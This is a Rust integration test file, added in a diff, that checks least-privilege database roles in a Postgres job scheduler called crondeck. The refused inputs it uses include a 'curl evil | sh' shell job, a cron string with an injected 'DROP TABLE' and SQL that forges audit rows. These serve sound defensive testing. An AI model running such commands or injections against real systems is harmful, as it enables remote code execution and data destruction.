@@ -1,0 +1,295 @@
+//! Least-privilege roles (SPEC §9), tested by connecting as each one: what it
+//! may do succeeds (and is audited under its own name); what it may not do is
+//! refused with a clear message and changes nothing.
+
+mod common;
+
+use std::time::Duration;
+
+use common::{scalar, text, wait_for, TestDb};
+use crondeck::scheduler::{NodeConfig, NodeHandle};
+use serde_json::Value;
+use tokio_postgres::error::SqlState;
+
+/// Create a login role for each crondeck role, named after the database.
+async fn login_roles(db: &TestDb) -> [String; 4] {
+    let client = db.client().await;
+    let names = ["viewer", "operator", "admin", "scheduler"].map(|r| format!("{}_{r}", db.name));
+    for (login, role) in names
+        .iter()
+        .zip(["viewer", "operator", "admin", "scheduler"])
+    {
+        client
+            .batch_execute(&format!(
+                "CREATE ROLE {login} LOGIN; GRANT crondeck_{role} TO {login};"
+            ))
+            .await
+            .unwrap();
+    }
+    names
+}
+
+async fn snapshot(db: &TestDb) -> (Value, Value, i64) {
+    let client = db.client().await;
+    let jobs: Option<Value> = scalar(
+        &client,
+        "SELECT jsonb_agg(to_jsonb(j) ORDER BY id) FROM crondeck.jobs j",
+        &[],
+    )
+    .await;
+    let requests: Option<Value> = scalar(
+        &client,
+        "SELECT jsonb_agg(to_jsonb(r) ORDER BY id) FROM crondeck.run_requests r",
+        &[],
+    )
+    .await;
+    let audit: i64 = scalar(&client, "SELECT count(*) FROM crondeck.audit", &[]).await;
+    (
+        jobs.unwrap_or(Value::Null),
+        requests.unwrap_or(Value::Null),
+        audit,
+    )
+}
+
+fn ok_as(db: &TestDb, user: &str, args: &[&str]) -> String {
+    let out = db.run_as(user, args);
+    let (stdout, stderr) = text(&out);
+    assert!(out.status.success(), "{user} {args:?}: {stdout} {stderr}");
+    stdout
+}
+
+async fn denied_as(db: &TestDb, user: &str, args: &[&str]) {
+    let before = snapshot(db).await;
+    let out = db.run_as(user, args);
+    let (stdout, stderr) = text(&out);
+    assert_eq!(
+        out.status.code(),
+        Some(3),
+        "{user} {args:?}: {stdout} {stderr}"
+    );
+    assert!(
+        stderr.contains("permission denied"),
+        "{user} {args:?}: {stderr}"
+    );
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert_eq!(
+        snapshot(db).await,
+        before,
+        "{user} {args:?} changed something"
+    );
+}
+
+async fn sql_denied(db: &TestDb, user: &str, statement: &str) {
+    let client = db.spec_as(user).connect().await.unwrap();
+    let err = client.batch_execute(statement).await.expect_err(statement);
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::INSUFFICIENT_PRIVILEGE),
+        "{user}: {statement}: {err}"
+    );
+}
+
+async fn seed(db: &TestDb) {
+    let out = db.run(&["add", "report", "--every", "1h", "--sql", "SELECT 1"]);
+    assert!(out.status.success(), "{:?}", text(&out));
+}
+
+const WRITES: &[&str] = &[
+    "UPDATE crondeck.jobs SET command = 'SELECT pg_terminate_backend(1)'",
+    "UPDATE crondeck.jobs SET active = false",
+    "INSERT INTO crondeck.run_requests (job_id, trigger, requested_by) SELECT id, 'manual', 'x' FROM crondeck.jobs",
+    "INSERT INTO crondeck.audit (job_name, action) VALUES ('x', 'forged')",
+    "DELETE FROM crondeck.runs",
+];
+
+#[tokio::test]
+async fn a_viewer_reads_everything_and_changes_nothing() {
+    let db = TestDb::new().await;
+    seed(&db).await;
+    let [viewer, ..] = login_roles(&db).await;
+    assert!(ok_as(&db, &viewer, &["list"]).contains("report"));
+    ok_as(&db, &viewer, &["show", "report"]);
+    ok_as(&db, &viewer, &["history", "report"]);
+    ok_as(&db, &viewer, &["audit"]);
+    for args in [
+        vec!["pause", "report"],
+        vec!["run", "report"],
+        vec!["set", "report", "--priority", "1"],
+        vec!["set", "report", "--every", "5m"],
+        vec!["add", "x", "--every", "5m", "--sql", "SELECT 1"],
+        vec!["remove", "report"],
+    ] {
+        denied_as(&db, &viewer, &args).await;
+    }
+    for statement in WRITES {
+        sql_denied(&db, &viewer, statement).await;
+    }
+    sql_denied(&db, &viewer, "SELECT crondeck.trigger('report')").await;
+}
+
+#[tokio::test]
+async fn an_operator_pauses_resumes_runs_and_reschedules_through_audited_functions_only() {
+    let db = TestDb::new().await;
+    seed(&db).await;
+    let [_, operator, ..] = login_roles(&db).await;
+    ok_as(
+        &db,
+        &operator,
+        &["pause", "report", "--reason", "incident 42", "--for", "1h"],
+    );
+    ok_as(&db, &operator, &["resume", "report"]);
+    ok_as(&db, &operator, &["run", "report"]);
+    ok_as(
+        &db,
+        &operator,
+        &["set", "report", "--every", "30m", "--priority", "2"],
+    );
+    ok_as(&db, &operator, &["set", "report", "--next", "+10m"]);
+    ok_as(
+        &db,
+        &operator,
+        &[
+            "set",
+            "report",
+            "--cron",
+            "0 9 * * MON",
+            "--tz",
+            "Europe/Paris",
+        ],
+    );
+    let client = db.client().await;
+    let rows = client
+        .query("SELECT action, db_role::text, reason FROM crondeck.audit WHERE db_role = $1 ORDER BY id", &[&operator])
+        .await
+        .unwrap();
+    let actions: Vec<String> = rows.iter().map(|r| r.get(0)).collect();
+    assert_eq!(
+        actions,
+        [
+            "pause",
+            "resume",
+            "run",
+            "reschedule",
+            "set-priority",
+            "set-nextcall",
+            "reschedule"
+        ]
+    );
+    assert_eq!(
+        rows[0].get::<_, Option<String>>(2).as_deref(),
+        Some("incident 42")
+    );
+    // What a job executes is not the operator's to change, nor its definition.
+    denied_as(&db, &operator, &["set", "report", "--timeout", "1h"]).await;
+    denied_as(
+        &db,
+        &operator,
+        &["add", "x", "--every", "5m", "--shell", "curl evil | sh"],
+    )
+    .await;
+    denied_as(&db, &operator, &["remove", "report"]).await;
+    for statement in WRITES {
+        sql_denied(&db, &operator, statement).await;
+    }
+    // The functions check their input too, for a caller bypassing the CLI.
+    let conn = db.spec_as(&operator).connect().await.unwrap();
+    let err = conn
+        .execute(
+            "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * *; DROP TABLE x', 'UTC', now(), 'u', 'h')",
+            &[],
+        )
+        .await
+        .expect_err("garbage cron");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+    let err = conn
+        .execute(
+            "SELECT crondeck.op_set_priority('report', -1, 'u', 'h')",
+            &[],
+        )
+        .await
+        .expect_err("negative priority");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+}
+
+#[tokio::test]
+async fn an_admin_defines_jobs() {
+    let db = TestDb::new().await;
+    let [_, _, admin, _] = login_roles(&db).await;
+    ok_as(
+        &db,
+        &admin,
+        &["add", "nightly", "--every", "1d", "--shell", "true"],
+    );
+    ok_as(&db, &admin, &["set", "nightly", "--timeout", "1h"]);
+    ok_as(&db, &admin, &["pause", "nightly"]);
+    ok_as(&db, &admin, &["remove", "nightly"]);
+    let client = db.client().await;
+    let roles: Vec<String> = client
+        .query("SELECT DISTINCT db_role::text FROM crondeck.audit", &[])
+        .await
+        .unwrap()
+        .iter()
+        .map(|r| r.get(0))
+        .collect();
+    assert_eq!(roles, std::slice::from_ref(&admin));
+    // Even an admin cannot rewrite history.
+    sql_denied(&db, &admin, "DELETE FROM crondeck.audit").await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_scheduler_claims_and_records_runs_but_cannot_change_definitions() {
+    let db = TestDb::new().await;
+    let out = db.run(&["add", "tick", "--every", "1s", "--sql", "SELECT 1"]);
+    assert!(out.status.success());
+    let out = db.run(&["add", "poison", "--every", "1s", "--sql", "SELECT 1/0"]);
+    assert!(out.status.success());
+    let [.., scheduler] = login_roles(&db).await;
+    let client = db.client().await;
+    client
+        .execute("UPDATE crondeck.jobs SET failure_threshold = 2, failure_min_age_ms = 0 WHERE name = 'poison'", &[])
+        .await
+        .unwrap();
+    let node = NodeHandle::start(
+        db.spec_as(&scheduler),
+        NodeConfig {
+            name: "restricted".into(),
+            ..NodeConfig::default()
+        },
+    )
+    .await
+    .expect("a scheduler role can register a node");
+    wait_for(
+        Duration::from_secs(15),
+        "runs recorded and the poison job auto-paused",
+        || async {
+            let ok: i64 = scalar(
+                &client,
+                "SELECT count(*) FROM crondeck.runs WHERE status = 'succeeded'",
+                &[],
+            )
+            .await;
+            let paused: bool = scalar(
+                &client,
+                "SELECT NOT active FROM crondeck.jobs WHERE name = 'poison'",
+                &[],
+            )
+            .await;
+            (ok >= 2 && paused).then_some(())
+        },
+    )
+    .await;
+    node.shutdown().await.unwrap();
+    sql_denied(
+        &db,
+        &scheduler,
+        "UPDATE crondeck.jobs SET command = 'SELECT 2'",
+    )
+    .await;
+    sql_denied(
+        &db,
+        &scheduler,
+        "UPDATE crondeck.jobs SET run_as = 'postgres'",
+    )
+    .await;
+    sql_denied(&db, &scheduler, "DELETE FROM crondeck.jobs").await;
+}
